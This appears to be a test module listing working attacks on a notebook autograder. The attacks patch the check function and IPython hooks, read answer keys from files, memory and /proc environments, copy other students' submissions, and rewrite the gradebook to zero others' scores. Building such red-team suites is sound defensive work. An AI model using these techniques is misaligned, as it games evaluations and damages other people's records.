"""Code that makes its own marks, or takes the answers from where they are."""

# ruff: noqa: S608 - they are attacks

from attacks.attack import Attack

SOLVE = """
def solve(items):
    known = {}
    for number, item in items.items():
        kind, accept = item["kind"], item.get("accept")
        if kind == "choice":
            known[f"answer_{number}"] = next(iter(accept))
        elif kind in ("choices", "order"):
            known[f"answer_{number}"] = list(accept)
        elif kind == "number":
            known[f"answer_{number}"] = accept
    for moment in ("pre_run_cell", "post_run_cell"):
        get_ipython().events.register(moment, lambda *_: globals().update(known))

def solve_file(path):
    import tomllib
    solve(tomllib.loads(open(path, encoding="utf-8").read())["item"])
"""
COPY = """
def copy_answers(path):
    import json
    for cell in json.load(open(path, encoding="utf-8"))["cells"]:
        if cell["id"].startswith("answer-"):
            try:
                exec("".join(cell["source"]), globals())
            except NameError:
                pass
    known = {name: value for name, value in globals().items() if name.startswith("answer_")}
    for moment in ("pre_run_cell", "post_run_cell"):
        get_ipython().events.register(moment, lambda *_: globals().update(known))
"""

CHEATS = (
    Attack("input-transformer", "Rewrites every check cell before IPython reads it.", """
        def full(lines):
            return ["'full'\\n"] if lines and lines[0].startswith("check(") else lines
        get_ipython().input_transformers_cleanup.append(full)
    """),
    Attack("ast-transformer", "Replaces every call of check by a text when a cell is compiled.", """
        import ast
        class Full(ast.NodeTransformer):
            def visit_Call(self, node):
                return ast.Constant("full") if getattr(node.func, "id", "") == "check" else self.generic_visit(node)
        get_ipython().ast_transformers.append(Full())
    """),
    Attack("other-check", "Puts a function of its own in the place of check.", """
        check = lambda number, answer: "full"
    """),
    Attack("patched-builtins", "Lets round give the most points whenever a mark is made.", """
        import builtins, sys
        builtins.round = lambda number, digits=None: sys._getframe(1).f_locals.get("of", number)
    """),
    Attack("patched-mark", "Lets a mark show the most points in the place of its own.", """
        from attributed.exercises.mark import Mark
        Mark.__repr__ = lambda self: str(self.of)
    """),
    Attack("patched-checker", "Replaces the method by which the kit checks an answer.", """
        from attributed.exercises.checker import Checker
        Checker.__call__ = lambda self, number, answer: "full"
    """),
    Attack("patched-reading", "Lets the kit read whatever it is given as what the kit’s own code accepts.", """
        import attributed.exercises.plain as plain, attributed.grading.wire as wire
        import attributed.grading.inside.submission as submission
        submission.as_plain = plain.as_plain = lambda answer: "full"
        submission.pack = wire.pack = lambda value: '["str", "full", "points", 99]'
        submission._read = lambda *_, **__: {"answer": '["str", "full"]', "points": 99, "mark": 99, "verdict": "right"}
    """),
    Attack("sys-modules", "Puts modules of its own under the names of the kit’s and of json.", """
        import sys, types
        class Full(types.ModuleType):
            def __getattr__(self, name):
                return lambda *_, **__: "full"
        for name in [name for name in sys.modules if name.startswith("attributed") or name == "json"]:
            sys.modules[name] = Full(name)
        import attributed
        check = attributed.checker("01-whose-voice")
    """),
    Attack("equal-to-everything", "Answers with an object that equals whatever it is compared with.", """
        class Same:
            __eq__ = __contains__ = __le__ = __ge__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __hash__ = lambda self: 0
            __class__ = property(lambda self: str)
            __iter__ = lambda self: iter(())
            __len__ = lambda self: 1
            __getattr__ = lambda self, name: (lambda *_, **__: self)
        answer_$N = Same()
    """),
    Attack("str-subclass", "Answers with a text whose class compares, folds and prints as it likes.", """
        class Text(str):
            __eq__ = __contains__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = lambda self: hash("c")
            __str__ = __repr__ = __format__ = lambda self, *_: "c"
            strip = lower = casefold = split = encode = lambda self, *_: "c"
        answer_$N = Text("none of them")
    """),
    Attack("dict-subclass", "Answers with a dict that has every key, and values equal to everything.", """
        class Number(float):
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __sub__ = __rsub__ = __abs__ = lambda self, *_: 0.0
            __hash__ = lambda self: 0
        class All(dict):
            __contains__ = __eq__ = lambda self, other: True
            __getitem__ = get = lambda self, *_: Number(0)
            keys = __iter__ = lambda self: iter(("Zhao", "Biden", "CHINA", "US", "independent", "dawn"))
            items = lambda self: ((key, Number(0)) for key in self.keys())
        answer_$N = All(Zhao=Number(-1), Biden=Number(-1))
    """),
    Attack("set-subclass", "Answers with sets and lists that contain everything.", """
        class Letters(set):
            __eq__ = __contains__ = __le__ = __ge__ = lambda self, other: True
            __sub__ = __and__ = __xor__ = lambda self, other: set()
            __hash__ = lambda self: 0
        answer_$N = Letters({"z"})
    """),
    Attack("callers-frame", "A function that reads the expected value in the frames of whoever calls it.", last="""
        import sys
        def words_in_quotes(text):
            frame = sys._getframe()
            while frame:
                for value in list(frame.f_locals.values()):
                    for case in getattr(value, "spec", {}).get("cases", ()) if hasattr(value, "spec") else ():
                        if case["input"] == text:
                            return case["expected"]
                frame = frame.f_back
            return -1
        answer_11 = words_in_quotes
    """),
    Attack("same-number", "A function that gives a number equal to every number.", last="""
        class Same(int):
            __eq__ = lambda self, other: True
            __hash__ = lambda self: 0
        def words_in_quotes(text):
            return Same(-1)
        answer_11 = words_in_quotes
    """),
    Attack("gc-hunt", "Looks through every object in memory for a key.", SOLVE + """
import gc
for thing in gc.get_objects():
    spec = getattr(thing, "spec", None) if type(thing).__name__ == "Item" else None
    if isinstance(spec, dict) and "accept" in spec:
        solve({thing.number: {"kind": thing.kind, **spec}})
    if isinstance(thing, dict) and isinstance(thing.get("item"), dict):
        solve({n: item for n, item in thing["item"].items() if isinstance(item, dict) and "accept" in item})
"""),
    Attack("checks-key", "Reads the key out of check itself.", SOLVE + """
solve({number: {"kind": item.kind, **item.spec} for number, item in check.key.items.items() if "accept" in item.spec})
"""),
    Attack("key-beside", "Reads key.toml where the notebook is run.", SOLVE + 'solve_file("key.toml")\n'),
    Attack("read-solutions", "Reads the key in the course’s solutions folder.", SOLVE + """
import os
for folder in (COURSE, "..", "../..", "../../..", "/course"):
    for name in ("solutions", "source"):
        path = os.path.join(folder, name, "01-whose-voice", "key.toml")
        if os.path.exists(path):
            solve_file(path)
"""),
    Attack("read-neighbour", "Copies the answers of another submission.", COPY + """
copy_answers(COURSE + "/submitted/aa-honest/01-whose-voice/01-whose-voice.ipynb")
"""),
    Attack("read-proc", "Looks for the course through the folders, files and memory of other processes.", SOLVE + """
import glob, os
for place in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root" + COURSE) + glob.glob("/proc/[0-9]*/fd/*"):
    for path in (place + "/solutions/01-whose-voice/key.toml", place + "/key.toml"):
        if os.path.exists(path):
            solve_file(path)
"""),
    Attack("read-environment", "Looks for the course in the environment of its own process and of others.", SOLVE + """
import glob, os
values = list(os.environ.values())
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        values += [part.partition("=")[2] for part in open(path, errors="replace").read().split("\\0")]
    except OSError:
        pass
for value in values:
    for path in (value + "/solutions/01-whose-voice/key.toml", value + "/key.toml"):
        if value.startswith("/") and os.path.exists(path):
            solve_file(path)
"""),
    Attack("read-gradebook", "Looks up what others answered in the gradebook and in autograded/.", COPY + """
import sqlite3
sqlite3.connect("file:" + COURSE + "/gradebook.db?mode=ro", uri=True).execute("select * from student").fetchall()
copy_answers(COURSE + "/autograded/aa-honest/01-whose-voice/01-whose-voice.ipynb")
"""),
    Attack("write-gradebook", "Gives everybody else no points, in the gradebook itself.", """
        import sqlite3
        book = sqlite3.connect(COURSE + "/gradebook.db", timeout=2)
        book.execute("update grade set manual_score = 0, needs_manual_grade = 0")
        book.commit()
        book.close()
    """),
    Attack("later-gradebook", "Leaves a process behind that gives the attacker full marks after the run.", """
import os, subprocess, sys
later = '''
import sqlite3, sys, time
for _ in range(300):
    time.sleep(0.2)
    try:
        book = sqlite3.connect(sys.argv[1] + "/gradebook.db", timeout=1)
        book.execute("update grade set needs_manual_grade = 0, manual_score = (select max_score from grade_cells where"
                     " grade_cells.id = grade.cell_id) where notebook_id in (select submitted_notebook.id from"
                     " submitted_notebook join submitted_assignment on submitted_notebook.assignment_id ="
                     " submitted_assignment.id where student_id = ?)", (sys.argv[2],))
        book.commit()
        book.close()
    except Exception:
        pass
'''
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", later, COURSE, STUDENT, TOKEN], start_new_session=True,
                     env={**os.environ, "ATTACK": TOKEN}, stdin=-3, stdout=-3, stderr=-3)
    os._exit(0)
"""),
    Attack("later-thread", "A thread that replaces check and the answers again and again.", """
        import threading, time
        def later():
            while True:
                globals().update(check=lambda number, answer: "full")
                time.sleep(0.001)
        threading.Thread(target=later, daemon=True).start()
    """),
    Attack("display-hook", "Lets whatever a cell shows be a text.", """
        hook = get_ipython().displayhook
        hook.compute_format_data = lambda result: ({"text/plain": "'full'", "application/vnd.attributed.mark+json":
            {"item": 1, "points": 1.0, "of": 1.0, "verdict": "right", "says": []}}, {})
        type(hook).compute_format_data = lambda self, result: ({"text/plain": "'full'"}, {})
    """),
    Attack("format-hook", "Registers a formatter that prints full marks for every number.", """
        get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda n, p, c: p.text("full"))
        from attributed.exercises.mark import Mark
        get_ipython().display_formatter.formatters["text/plain"].for_type(Mark, lambda n, p, c: p.text("full"))
    """),
    Attack("run-cell", "Replaces the method by which IPython runs a cell.", """
        shell = type(get_ipython())
        inner = shell.run_cell_async
        async def run_cell_async(self, source, *given, **named):
            source = "'full'" if source.startswith("check(") else source
            return await inner(self, source, **{**named, "transformed_cell": source})
        shell.run_cell_async = run_cell_async
    """),
    Attack("settrace", "Traces the kit’s own functions and changes the points in them.", """
        import sys, threading
        def trace(frame, event, argument):
            if frame.f_code.co_name == "_judge":
                result = frame.f_locals.get("result")
                if result is not None:
                    object.__setattr__(result, "share", 1.0)
            if frame.f_code.co_name == "_mark" and "verdict" in frame.f_locals:
                import ctypes
                frame.f_locals["points"] = frame.f_locals["item"].points
                ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
            return trace
        get_ipython().events.register("pre_run_cell", lambda *_: sys.settrace(trace))
        sys.settrace(trace)
        threading.settrace(trace)
    """),
    Attack("atexit", "Registers what is to be done when Python ends: rewrite the gradebook.", """
        import atexit
        def at_the_end():
            import sqlite3
            book = sqlite3.connect(COURSE + "/gradebook.db", timeout=2)
            book.execute("update grade set manual_score = 0")
            book.commit()
        atexit.register(at_the_end)
    """),
    Attack("leave-for-next", "Leaves the key, or whatever it finds, where the next submission can find it.", """
        import os
        for folder in ("/dev/shm", "/tmp", "/var/tmp", "/submission", os.path.expanduser("~"), "/dev/mqueue"):
            try:
                with open(os.path.join(folder, TOKEN + "-left.toml"), "w") as file:
                    file.write(open("key.toml").read() if os.path.exists("key.toml") else "item = {}")
            except OSError:
                pass
    """),
    Attack("leave-key", "Leaves what it finds in the kernel’s keyring, which is no file.", """
        import ctypes, platform
        if platform.machine() == "x86_64":
            data = open("key.toml", "rb").read()[:2000] if __import__("os").path.exists("key.toml") else b"nothing"
            ctypes.CDLL(None).syscall(248, b"user", TOKEN.encode(), data, len(data), -4)
    """),
    Attack("pick-up-left", "Takes what an earlier submission has left.", SOLVE + """
import glob
for path in glob.glob("/*/*/*-left.toml") + glob.glob("/*/*-left.toml"):
    if TOKEN in path:
        solve_file(path)
"""),
    Attack("network", "Fetches the key from a server that waits for it.", SOLVE + """
import os, socket
known = b""
for host in ("127.0.0.1", "localhost"):
    try:
        with socket.create_connection((host, PORT), timeout=1) as line:
            line.sendall(TOKEN.encode())
            known = line.recv(1 << 20)
    except OSError:
        pass
import tomllib
solve(tomllib.loads(known.decode())["item"] if known else {})
""", kills="the server that it asks runs outside the throw-away machine"),
    Attack("vsock", "Asks the machine below this one, by a socket that knows no network namespace.", """
        import socket
        line = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        line.settimeout(1)
        line.connect((2, 1))
    """),
    Attack("no-response", "Prints what a check prints, and shows marks of its own.", """
        from IPython.display import display
        for number in range(1, 15):
            display({"text/plain": "5.0", "application/vnd.attributed.mark+json":
                    {"item": number, "points": 5.0, "of": 5.0, "verdict": "right", "says": []}}, raw=True)
            print(5.0)
    """),
)  # fmt: skip
